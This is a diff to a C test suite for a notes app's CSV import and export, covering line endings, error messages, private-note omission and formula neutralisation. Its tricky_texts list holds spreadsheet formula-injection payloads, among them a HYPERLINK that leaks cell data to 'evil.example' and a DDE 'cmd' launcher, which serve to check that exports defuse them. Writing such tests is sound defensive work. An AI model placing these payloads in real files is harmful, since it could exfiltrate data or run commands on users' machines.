@@ -1,4 +1,5 @@
-/* test-csv.c: CSV import (quoting, checks, all or nothing, one undo step) and export
+/* test-csv.c: CSV import (quoting, line ends, checks and their messages, all or nothing, one
+ * undo step) and export (formulas neutralised, private notes left out when asked)
  *
  * SPDX-License-Identifier: GPL-3.0-or-later
  */
@@ -45,7 +46,7 @@ snapshot_take (Snapshot   *snapshot,
     snapshot->n_items[i] = g_list_model_get_n_items (get_collection (workshop, i));
   snapshot->n_undo = cg_history_get_n_undo (history);
   snapshot->n_redo = cg_history_get_n_redo (history);
-  snapshot->csv = cg_csv_export (workshop);
+  snapshot->csv = cg_csv_export (workshop, TRUE);
 }
 
 static void
@@ -94,9 +95,10 @@ import_ok (CgWorkshop *workshop,
            const char *csv)
 {
   g_autoptr(GError) error = NULL;
+  gboolean ok = cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error);
 
-  g_assert_true (cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error));
   g_assert_no_error (error);
+  g_assert_true (ok);
 }
 
 static CgIdea *
@@ -111,13 +113,20 @@ get_idea (CgWorkshop *workshop,
 }
 
 static char *
-export_string (CgWorkshop *workshop)
+export_string_full (CgWorkshop *workshop,
+                    gboolean    include_private)
 {
-  g_autoptr(GBytes) bytes = cg_csv_export (workshop);
+  g_autoptr(GBytes) bytes = cg_csv_export (workshop, include_private);
   gsize size;
   const char *data = g_bytes_get_data (bytes, &size);
 
   return g_strndup (data, size);
+}
+
+static char *
+export_string (CgWorkshop *workshop)
+{
+  return export_string_full (workshop, TRUE);
 }
 
 static void
@@ -229,6 +238,14 @@ test_import_line_ends (void)
     "Carers,open,\"Two\nlines\",March,Hope,story,1,yes,no\n,,Last,,,,,,\n",
     " Event , THEME,voice,kind,text,votes,private,beyond_service,status\n"
     "March,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\n,,,,Last,,,,\n",
+    /* CR alone ends a line (old Macs, some Excel exports); inside quotes it is text */
+    HEADER "\rMarch,Hope,Carers,story,\"Two\rlines\",1,no,yes,open\r,,,,Last,,,,\r",
+    HEADER "\rMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\r\r,,,,Last,,,,",
+    "\xef\xbb\xbf" HEADER "\rMarch,Hope,Carers,story,\"Two\r\nlines\",1,no,yes,open\r"
+    ",,,,Last,,,,\r",
+    /* and all three in one file */
+    HEADER "\r\nMarch,Hope,Carers,story,\"Two\rlines\",1,no,yes,open\r,,,,Last,,,,\n",
+    HEADER "\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\r\n\r,,,,Last,,,,\r\n",
   };
   g_autofree char *expected = NULL;
 
@@ -357,11 +374,12 @@ static const BadCase bad_cases[] = {
   { HEADER "\nMarch,,,,Hello,1000001,,,\n", -1, 2, "from 0 to 1000000", CG_IO_ERROR_CSV },
   { HEADER "\nMarch,,,,Hello,99999999999999999999999,,,\n", -1, 2, "votes '", CG_IO_ERROR_CSV },
   { HEADER "\n,,,,Hello,3,,,\n", -1, 2, "3 votes but no event", CG_IO_ERROR_CSV },
-  { HEADER "\n,,,,,,,,\n", -1, 2, "the text is empty", CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,,,,,\n", -1, 2, "the row is empty, only commas", CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,Good,,,,\r\n,,,,,,,,\r\n", -1, 3, "the row is empty, only commas",
+    CG_IO_ERROR_CSV },
+  { HEADER "\nMarch,,,,,,,,\n", -1, 2, "the text is empty", CG_IO_ERROR_CSV },
   { HEADER "\n,,,,\"  \n\t \",,,,\n", -1, 2, "the text is empty", CG_IO_ERROR_CSV },
   { HEADER "\n,,,,Caf\xc3,,,,\n", -1, 2, "not valid UTF-8", CG_IO_ERROR_CSV },
-  { HEADER "\n,,,,A\0B,,,,\n", sizeof (HEADER "\n,,,,A\0B,,,,\n") - 1, 2, "not valid UTF-8",
-    CG_IO_ERROR_CSV },
   /* Structure */
   { HEADER "\n,,,,\"Hello,,,,\n", -1, 2, "never closed", CG_IO_ERROR_CSV },
   { HEADER "\n,,,,Hel\"lo,,,,\n", -1, 2, "a quote inside a field", CG_IO_ERROR_CSV },
@@ -378,6 +396,63 @@ static const BadCase bad_cases[] = {
     "status 'shelved'", CG_IO_ERROR_CSV },
   { "\xef\xbb\xbf" HEADER "\n,,,,Good,,,,\n,,,,Good,,,,\n,,,,\"never\nclosed,,,,\n", -1, 4,
     "never closed", CG_IO_ERROR_CSV },
+  /* ...and lines ended by a lone CR count as lines */
+  { HEADER "\r,,,,Good,,,,\r,,,,\"one\rtwo\",,,,\r\r,,,x,Bad,,,,\r", -1, 6, "kind 'x'",
+    CG_IO_ERROR_CSV },
+  { HEADER "\r\n,,,,Good,,,,\r,,,,Good,,,,\n,,,,Good,,,,closed?\r\n", -1, 4,
+    "status 'closed?'", CG_IO_ERROR_CSV },
+};
+
+/* What is really wrong, where an earlier message named a symptom. */
+#define NUL_CSV HEADER "\n,,,,A\0B,,,,\n"
+#define NUL_LATER_CSV HEADER "\r\n,,,,Good,,,,\r,,,,\"x\ny\",,,,\n,,,,Go\0d,,,,\n"
+static const BadCase misleading_cases[] = {
+  /* A NUL byte: not a text file, named at the line it is on */
+  { NUL_CSV, sizeof (NUL_CSV) - 1, 2, "this line holds a zero (NUL) byte, which text never has: "
+    "the file is not a text file, or it is damaged", CG_IO_ERROR_CSV },
+  { NUL_LATER_CSV, sizeof (NUL_LATER_CSV) - 1, 5, "zero (NUL) byte", CG_IO_ERROR_CSV },
+  { "PK\x03\x04\x14\0\0\0\x08\0", 10, 1, "a spreadsheet workbook", CG_IO_ERROR_CSV },
+  { "\xff\xfe" "e\0v\0e\0n\0t\0", 12, 1, "saved as UTF-16", CG_IO_ERROR_CSV },
+  { "e\0v\0e\0n\0t\0", 10, 1, "saved as UTF-16", CG_IO_ERROR_CSV },
+  /* Lines ended by a lone CR are lines, not part of a column's name */
+  { HEADER "\rMarch,,,x,Hello,,,,\r", -1, 2, "kind 'x' is not one of", CG_IO_ERROR_CSV },
+  /* Windows-1252 ("ANSI") bytes */
+  { HEADER "\n,,,,Caf\xe9 on Fridays,,,,\n", -1, 2,
+    "the text column is not valid UTF-8 text: the file was probably saved in another encoding, "
+    "such as Windows-1252", CG_IO_ERROR_CSV },
+  { HEADER "\nCaf\xe9 meeting,,,,Hello,,,,\n", -1, 2, "the event column is not valid UTF-8",
+    CG_IO_ERROR_CSV },
+  { "\xe9vent,theme,voice,kind,text,votes,private,beyond_service,status\n", -1, 1,
+    "such as Windows-1252", CG_IO_ERROR_CSV },
+  /* A byte order mark in the middle: two files joined together */
+  { "\xef\xbb\xbf" HEADER "\r\n,,,,A,,,,\r\n\xef\xbb\xbf" HEADER "\r\n,,,,B,,,,\r\n", -1, 3,
+    "this row repeats the header; were two files joined together?", CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,A,,,,\n" HEADER "\n,,,,B,,,,\n", -1, 3, "this row repeats the header",
+    CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,A,,,,\n\xef\xbb\xbfMarch,,,,B,,,,\n", -1, 3,
+    "the row starts with a byte order mark", CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,A,,,,\n\xef\xbb\xbf\"March\",,,,B,,,,\n", -1, 3,
+    "the row starts with a byte order mark", CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,\xef\xbb\xbf\"B\",,,,\n", -1, 2, "a field starts with a byte order mark",
+    CG_IO_ERROR_CSV },
+  /* A lone quote that pairs up with a quote lines later */
+  { HEADER "\n,,,,\"Hello,,,,\n,,,,Good,,,,\n,,,,\"Quoted\",,,,\n", -1, 2,
+    "a quoted field runs from line 2 to line 4 and has text after its closing quote: is a quote "
+    "on line 2 never closed", CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,\"Hello,,,,\n,,,,Good,,,,\n,,,,x\",,,\n", -1, 2,
+    "the row runs from line 2 to line 4 and has 8 fields but the header has 9: check the quotes",
+    CG_IO_ERROR_CSV },
+  { HEADER "\n,,,,\"He said \"hi\" twice\",,,,\n", -1, 2,
+    "after the closing quote of a field (a quote inside a quoted field must be doubled)",
+    CG_IO_ERROR_CSV },
+  /* An empty file, a blank first line, a first line of ideas, empty columns in the header */
+  { "\r\r\n", -1, 1, "the file is empty", CG_IO_ERROR_CSV },
+  { "  \n,,,,Hello,,,,\n", -1, 1, "the first line does not name the columns; it should be the "
+    "header " HEADER, CG_IO_ERROR_CSV },
+  { "March,Hope,Staff,idea,Hello,1,no,no,open\n", -1, 1, "does not name the columns",
+    CG_IO_ERROR_CSV },
+  { HEADER ",,\n,,,,Hello,,,,,,\n", -1, 1, "column 10 of the header has no name",
+    CG_IO_ERROR_CSV },
 };
 
 static void
@@ -406,6 +481,16 @@ test_import_bad_rows (void)
     {
       g_test_message ("case %u", i);
       assert_bad_import (&bad_cases[i]);
+    }
+}
+
+static void
+test_import_misleading (void)
+{
+  for (guint i = 0; i < G_N_ELEMENTS (misleading_cases); i++)
+    {
+      g_test_message ("case %u", i);
+      assert_bad_import (&misleading_cases[i]);
     }
 }
 
@@ -454,6 +539,33 @@ test_import_long_values (void)
     g_assert_error (error, CG_IO_ERROR, CG_IO_ERROR_CSV);
     g_assert_cmpuint (strlen (error->message), <, 300);
   }
+}
+
+/* A quote never closed swallows the rows after it: the message says so, not just "too long". */
+static void
+test_import_long_runaway_quote (void)
+{
+  g_autoptr(GString) csv = g_string_new (HEADER "\n,,,,Good,,,,\n,,,,\"Start,,,,\n");
+  g_autoptr(GString) names = g_string_new (HEADER "\n,,,,Good,,,,\n,\"Hope,,,,\n");
+  BadCase bad = { NULL, -1, 3, NULL, CG_IO_ERROR_CSV };
+
+  for (guint i = 0; i < 1000; i++)
+    {
+      g_string_append (csv, ",,,,Another note,,,,\n");
+      g_string_append (names, ",,,,Another note,,,,\n");
+    }
+  g_string_append (csv, ",,,,End\",,,,\n");
+  g_string_append (names, ",,,End\",,,,,,,\n");
+
+  bad.csv = csv->str;
+  bad.message = "the text runs from line 3 to line 1004 and is longer than 10000 characters: "
+                "is a quote on line 3 never closed?";
+  assert_bad_import (&bad);
+
+  bad.csv = names->str;
+  bad.message = "the theme name runs from line 3 to line 1004 and is longer than 10000 "
+                "characters: is a quote on line 3 never closed?";
+  assert_bad_import (&bad);
 }
 
 static void
@@ -523,7 +635,7 @@ test_import_undo (void)
   g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (workshop)), ==, 2);
   g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (workshop)), ==, 2);
   g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (workshop)), ==, 3);
-  imported = cg_csv_export (workshop);
+  imported = cg_csv_export (workshop, TRUE);
 
   /* One undo takes the whole import away: ideas and the events, themes and voices it made. */
   g_assert_true (cg_history_undo (history));
@@ -532,7 +644,7 @@ test_import_undo (void)
 
   g_assert_true (cg_history_redo (history));
   {
-    g_autoptr(GBytes) again = cg_csv_export (workshop);
+    g_autoptr(GBytes) again = cg_csv_export (workshop, TRUE);
 
     g_assert_true (g_bytes_equal (again, imported));
   }
@@ -587,7 +699,7 @@ static CgWorkshop *
 copy_through_csv (CgWorkshop *source)
 {
   CgWorkshop *copy = cg_workshop_new ("Copy");
-  g_autoptr(GBytes) first = cg_csv_export (source);
+  g_autoptr(GBytes) first = cg_csv_export (source, TRUE);
   g_autoptr(GBytes) second = NULL;
   g_autoptr(GError) error = NULL;
   gsize size;
@@ -595,7 +707,7 @@ copy_through_csv (CgWorkshop *source)
 
   g_assert_true (cg_csv_import (copy, data, size, "round.csv", &error));
   g_assert_no_error (error);
-  second = cg_csv_export (copy);
+  second = cg_csv_export (copy, TRUE);
   g_assert_cmpmem (data, size, g_bytes_get_data (second, NULL), g_bytes_get_size (second));
   g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (copy)), ==,
                     g_list_model_get_n_items (cg_workshop_get_ideas (source)));
@@ -642,6 +754,289 @@ test_round_trip_sample (void)
   g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (copy)), ==, 2);
 }
 
+/* The cells of CSV as RFC 4180 reads them: a GPtrArray of rows, each a GStrv. */
+static GPtrArray *
+split_csv (const char *csv)
+{
+  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
+  g_autoptr(GPtrArray) row = g_ptr_array_new_with_free_func (g_free);
+  g_autoptr(GString) cell = g_string_new (NULL);
+  const char *p = csv;
+
+  while (*p != '\0')
+    {
+      if (*p == '"')
+        {
+          for (p++; *p != '\0' && !(*p == '"' && p[1] != '"'); p++)
+            {
+              if (*p == '"')
+                p++;
+              g_string_append_c (cell, *p);
+            }
+          g_assert_cmpint (*p, ==, '"');
+          p++;
+        }
+      while (*p != '\0' && *p != ',' && *p != '\r')
+        g_string_append_c (cell, *p++);
+
+      g_ptr_array_add (row, g_strdup (cell->str));
+      g_string_truncate (cell, 0);
+      if (*p == ',')
+        p++;
+      else
+        {
+          g_assert_true (g_str_has_prefix (p, "\r\n"));
+          p += 2;
+          g_ptr_array_add (row, NULL);
+          g_ptr_array_add (rows, g_ptr_array_free (g_steal_pointer (&row), FALSE));
+          row = g_ptr_array_new_with_free_func (g_free);
+        }
+    }
+  return rows;
+}
+
+/* Texts a spreadsheet would run as formulas, texts that only look like the neutralised ones, and
+ * texts around them. None is blank, since a blank text is no note at all. */
+static const char * const tricky_texts[] = {
+  "=1+1",
+  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
+  "=cmd|' /C calc'!A0",
+  "+44 1382 000000",
+  "-5 degrees in the waiting room",
+  "- a list, with a comma",
+  "@SUM(A1:A9)",
+  "\tindented with a tab",
+  "\t=1+1",
+  "\r=1+1",
+  "\r\n-in a new line",
+  "'=1+1",
+  "''=1+1",
+  "'''+already three",
+  "'\tapostrophe and tab",
+  "'\r=apostrophe and carriage return",
+  "''\r\n@",
+  "'-",
+  "'",
+  "''",
+  "'plain apostrophe",
+  "' =space before the sign",
+  " =space first",
+  "\n=line first",
+  "a=b",
+  "=",
+  "+",
+  "-",
+  "@",
+  "\"=quoted\"",
+  "'\"=quoted\" after an apostrophe",
+  "=\"with, a comma\"\nand a second line",
+  "\xef\xbc\x9d full-width equals",
+  "\xef\xbb\xbfmark first",
+  "caf\xc3\xa9 = fine",
+};
+
+static gboolean
+starts_like_formula (const char *cell)
+{
+  return cell[0] != '\0' && strchr ("=+-@\t\r", cell[0]) != NULL;
+}
+
+/* Every text, as a note, an event, a theme and a voice, comes back the same through CSV, and no
+ * cell of the CSV starts as a formula would. */
+static void
+test_round_trip_formulas (void)
+{
+  g_autoptr(CgWorkshop) source = cg_workshop_new ("Formulas");
+  g_autoptr(CgWorkshop) copy = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autofree char *csv = NULL;
+  guint n = G_N_ELEMENTS (tricky_texts);
+
+  for (guint i = 0; i < n; i++)
+    {
+      /* Each name on another note, so that every row mixes them. */
+      g_autoptr(CgEvent) event = cg_event_new (tricky_texts[(i + 1) % n]);
+      g_autoptr(CgTheme) theme = cg_theme_new (tricky_texts[(i + 2) % n], "#332288");
+      g_autoptr(CgVoice) voice = cg_voice_new (tricky_texts[(i + 3) % n], "#e69f00");
+      g_autoptr(CgIdea) idea = cg_idea_new (tricky_texts[i]);
+
+      cg_workshop_add (source, event);
+      cg_workshop_add (source, theme);
+      cg_workshop_add (source, voice);
+      cg_idea_set_event (idea, event);
+      cg_idea_set_theme (idea, theme);
+      cg_idea_set_voice (idea, voice);
+      cg_workshop_add (source, idea);
+    }
+
+  csv = export_string (source);
+  rows = split_csv (csv);
+  g_assert_cmpuint (rows->len, ==, n + 1);
+  for (guint r = 0; r < rows->len; r++)
+    {
+      char **cells = g_ptr_array_index (rows, r);
+
+      g_assert_cmpuint (g_strv_length (cells), ==, 9);
+      for (guint c = 0; cells[c] != NULL; c++)
+        {
+          g_test_message ("row %u, cell %u: %s", r, c, cells[c]);
+          g_assert_false (starts_like_formula (cells[c]));
+        }
+    }
+
+  copy = copy_through_csv (source);
+  for (guint i = 0; i < n; i++)
+    {
+      CgIdea *original = get_idea (source, i);
+      CgIdea *idea = get_idea (copy, i);
+
+      g_test_message ("text %u", i);
+      g_assert_cmpstr (cg_idea_get_text (idea), ==, cg_idea_get_text (original));
+      g_assert_cmpstr (cg_event_get_title (cg_idea_get_event (idea)), ==,
+                       cg_event_get_title (cg_idea_get_event (original)));
+      g_assert_cmpstr (cg_theme_get_name (cg_idea_get_theme (idea)), ==,
+                       cg_theme_get_name (cg_idea_get_theme (original)));
+      g_assert_cmpstr (cg_voice_get_name (cg_idea_get_voice (idea)), ==,
+                       cg_voice_get_name (cg_idea_get_voice (original)));
+    }
+  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (copy)), ==, n);
+  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (copy)), ==, n);
+  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (copy)), ==, n);
+}
+
+/* The exact cells: one apostrophe more before a formula start, nothing added elsewhere. */
+static void
+test_export_formulas (void)
+{
+  static const struct { const char *text; const char *cell; } cases[] = {
+    { "=1+1", "'=1+1" },
+    { "=HYPERLINK(\"http://x.example\")", "\"'=HYPERLINK(\"\"http://x.example\"\")\"" },
+    { "+44", "'+44" },
+    { "-5", "'-5" },
+    { "@x", "'@x" },
+    { "\tx", "'\tx" },
+    { "'=x", "''=x" },
+    { "'''@x", "''''@x" },
+    { "'x", "'x" },
+    { " =x", " =x" },
+    { "a-b", "a-b" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Cells");
+      g_autoptr(CgIdea) idea = cg_idea_new (cases[i].text);
+      g_autoptr(CgTheme) theme = cg_theme_new (cases[i].text, "#332288");
+      g_autofree char *csv = NULL;
+      g_autofree char *expected = NULL;
+
+      cg_workshop_add (workshop, theme);
+      cg_idea_set_theme (idea, theme);
+      cg_workshop_add (workshop, idea);
+      csv = export_string (workshop);
+      expected = g_strdup_printf (HEADER "\r\n,%s,,idea,%s,0,no,no,open\r\n",
+                                  cases[i].cell, cases[i].cell);
+      g_assert_cmpstr (csv, ==, expected);
+    }
+}
+
+/* Import takes one apostrophe away before a formula start, in any column, and only there. */
+static void
+test_import_formulas (void)
+{
+  static const struct { const char *cell; const char *text; } cases[] = {
+    { "'=1+1", "=1+1" },
+    { "''=1+1", "'=1+1" },
+    { "'+44", "+44" },
+    { "'-5", "-5" },
+    { "'@x", "@x" },
+    { "'\tx", "\tx" },
+    { "\"'\rx\"", "\nx" },
+    { "\"''\r\nx\"", "'\nx" },
+    { "'x", "'x" },
+    { "'", "'" },
+    { "' =x", "' =x" },
+    { "=1+1", "=1+1" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Cells");
+      g_autofree char *csv = g_strdup_printf (HEADER "\n%s,%s,%s,idea,%s,,,,\n",
+                                              cases[i].cell, cases[i].cell, cases[i].cell,
+                                              cases[i].cell);
+      CgIdea *idea;
+
+      g_test_message ("case %u", i);
+      import_ok (workshop, csv);
+      idea = get_idea (workshop, 0);
+      g_assert_cmpstr (cg_idea_get_text (idea), ==, cases[i].text);
+      g_assert_cmpstr (cg_event_get_title (cg_idea_get_event (idea)), ==, cases[i].text);
+      g_assert_cmpstr (cg_theme_get_name (cg_idea_get_theme (idea)), ==, cases[i].text);
+      g_assert_cmpstr (cg_voice_get_name (cg_idea_get_voice (idea)), ==, cases[i].text);
+    }
+
+  /* A keyword keeps its apostrophe when no formula start follows: it is no keyword then. */
+  {
+    g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Cells");
+    g_autoptr(GError) error = NULL;
+    const char *csv = HEADER "\n,,,'idea,Hello,,,,\n";
+
+    g_assert_false (cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error));
+    g_assert_error (error, CG_IO_ERROR, CG_IO_ERROR_CSV);
+    g_assert_true (g_str_has_prefix (error->message, "ideas.csv:2: kind ''idea' is not"));
+  }
+}
+
+/* Private notes: every row, or none of theirs. */
+static void
+test_export_private (void)
+{
+  g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Private");
+  g_autoptr(CgEvent) event = cg_event_new ("March");
+  g_autoptr(CgTheme) secret_theme = cg_theme_new ("Only on private notes", "#332288");
+  g_autoptr(CgIdea) open = cg_idea_new ("Said in the room");
+  g_autoptr(CgIdea) secret = cg_idea_new ("Told to the facilitator alone");
+  g_autoptr(CgIdea) last = cg_idea_new ("Also said in the room");
+  g_autoptr(CgWorkshop) copy = cg_workshop_new ("Copy");
+  g_autofree char *with = NULL;
+  g_autofree char *without = NULL;
+
+  cg_workshop_add (workshop, event);
+  cg_workshop_add (workshop, secret_theme);
+  cg_idea_set_event (open, event);
+  cg_workshop_add (workshop, open);
+  cg_idea_set_event (secret, event);
+  cg_idea_set_theme (secret, secret_theme);
+  cg_idea_set_private (secret, TRUE);
+  cg_idea_set_votes (secret, event, 2);
+  cg_workshop_add (workshop, secret);
+  cg_workshop_add (workshop, last);
+
+  with = export_string_full (workshop, TRUE);
+  g_assert_cmpstr (with, ==,
+                   HEADER "\r\n"
+                   "March,,,idea,Said in the room,0,no,no,open\r\n"
+                   "March,Only on private notes,,idea,Told to the facilitator alone,2,yes,no,"
+                   "open\r\n"
+                   ",,,idea,Also said in the room,0,no,no,open\r\n");
+
+  without = export_string_full (workshop, FALSE);
+  g_assert_cmpstr (without, ==,
+                   HEADER "\r\n"
+                   "March,,,idea,Said in the room,0,no,no,open\r\n"
+                   ",,,idea,Also said in the room,0,no,no,open\r\n");
+
+  /* Left out of the file, not only hidden: it imports as two notes and no theme. */
+  import_ok (copy, without);
+  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (copy)), ==, 2);
+  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (copy)), ==, 0);
+
+  /* The workshop itself is unchanged. */
+  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 3);
+  g_assert_true (cg_idea_get_private (secret));
+}
+
 static void
 test_import_data_file (void)
 {
@@ -686,15 +1081,21 @@ main (int   argc,
   g_test_add_func ("/io/csv/import/line-ends", test_import_line_ends);
   g_test_add_func ("/io/csv/import/created-by-name", test_import_created_by_name);
   g_test_add_func ("/io/csv/import/bad-rows", test_import_bad_rows);
+  g_test_add_func ("/io/csv/import/misleading", test_import_misleading);
   g_test_add_func ("/io/csv/import/bad-exact-message", test_import_bad_exact_message);
   g_test_add_func ("/io/csv/import/long-values", test_import_long_values);
+  g_test_add_func ("/io/csv/import/long-runaway-quote", test_import_long_runaway_quote);
   g_test_add_func ("/io/csv/import/too-many-rows", test_import_too_many_rows);
   g_test_add_func ("/io/csv/import/header-only", test_import_header_only);
   g_test_add_func ("/io/csv/import/undo", test_import_undo);
   g_test_add_func ("/io/csv/import/data-file", test_import_data_file);
+  g_test_add_func ("/io/csv/import/formulas", test_import_formulas);
   g_test_add_func ("/io/csv/export/format", test_export_format);
+  g_test_add_func ("/io/csv/export/formulas", test_export_formulas);
+  g_test_add_func ("/io/csv/export/private", test_export_private);
   g_test_add_func ("/io/csv/round-trip", test_round_trip);
   g_test_add_func ("/io/csv/round-trip-sample", test_round_trip_sample);
+  g_test_add_func ("/io/csv/round-trip-formulas", test_round_trip_formulas);
 
   return g_test_run ();
 }
